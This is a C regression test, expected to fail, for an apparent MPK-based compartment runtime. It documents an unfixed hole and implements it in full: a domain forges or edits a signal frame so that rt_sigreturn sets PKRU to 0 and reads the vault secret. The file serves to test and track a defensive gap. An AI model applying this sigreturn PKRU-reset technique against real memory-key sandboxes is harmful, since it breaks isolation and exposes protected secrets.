// rt_sigreturn restores PKRU from the signal frame's XSAVE area, wherever
// the frame came from. Domain `evil` installs a handler of its own with
// the raw rt_sigaction system call (no loader in front of it), sends
// itself the signal, sets PKRU to 0 (every right) in the frame, and
// returns through its own restorer; a frame forged on its stack does the
// same. Stopping this needs every rt_sigreturn to go through a restorer of
// the runtime that knows which PKRU the frame may hold (docs/runtime.md
// §6): not done yet, so under mpk the secret still leaks.
// XFAIL: *
// REQUIRES: pku
// RUN: %dipc-clang -fdipc -O2 %s -o %t
// RUN: %dipc-bin-dir/dipc-run %t 2>&1 | FileCheck %s --check-prefix=MPK
// RUN: %dipc-bin-dir/dipc-run --backend=none %t 2>&1 | FileCheck %s --check-prefix=STOLEN
// MPK: rt_sigreturn
// MPK-NOT: stole
// STOLEN: stole 'vault-secret-42'
#define _GNU_SOURCE
#include "Inputs/vault.h"

#include <cpuid.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/ucontext.h>
#include <unistd.h>

struct kernel_sigaction {
  void (*handler)(int, siginfo_t *, void *);
  unsigned long flags;
  void (*restorer)(void);
  unsigned long mask;
};

// Runs with the kernel's signal PKRU (key 0 only): touches only the frame,
// on the loader's key-0 alternate stack.
static void handler(int sig, siginfo_t *info, void *p) {
  (void)sig, (void)info;
  unsigned a, b, c, d;
  __cpuid_count(0xd, 9, a, b, c, d); // offset of PKRU in the XSAVE area
  char *xsave = (char *)((ucontext_t *)p)->uc_mcontext.fpregs;
  *(unsigned *)(xsave + b) = 0;
}

__attribute__((naked)) static void restorer(void) {
  __asm__("mov $15, %eax\n\tsyscall\n\tud2");
}

long attack(const char *mode, void *aux, const volatile char *secret, int key,
            char *loot) {
  (void)mode, (void)aux, (void)key;
  struct kernel_sigaction act = {handler, SA_SIGINFO | SA_ONSTACK | 0x04000000,
                                 restorer, 0};
  syscall(SYS_rt_sigaction, SIGUSR2, &act, NULL, 8);
  printf("rt_sigreturn with PKRU 0 in the frame\n");
  fflush(stdout);
  syscall(SYS_tgkill, getpid(), gettid(), SIGUSR2);
  take(secret, loot);
  return 0;
}

int main(void) { return run_attack("sigreturn", NULL); }
